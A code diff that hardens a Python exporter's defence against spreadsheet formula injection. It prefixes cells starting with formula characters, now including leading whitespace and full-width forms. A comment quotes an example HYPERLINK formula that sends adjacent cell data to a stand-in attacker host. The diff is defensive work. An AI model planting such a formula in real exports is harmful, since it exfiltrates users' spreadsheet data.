@@ -159,11 +159,16 @@ def _export(rows: list[dict[str, Any]], table: Table, form: str, out: TextIO) ->
 # What a spreadsheet reads as a formula at a cell's start (a plan id such as
 # =HYPERLINK("https://evil.example/?d="&A2, "details") sent the rows beside it away):
 # such a text gets a ' before it, which spreadsheets show as text (review25 G13).
-_FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
+# Spaces, line breaks and tabs before one count too: an import that trims cells (an
+# option in LibreOffice's and Excel's) leaves the formula's own start; so do the
+# full-width forms, which some locales' input turns into the ASCII ones.
+_FORMULA_STARTS: Final = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 
 def _as_text(cell: str) -> str:
-    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
+    if cell.startswith(("\t", "\r")) or cell.lstrip().startswith(_FORMULA_STARTS):
+        return "'" + cell
+    return cell
 
 
 def _when(unix_ms: int) -> str:
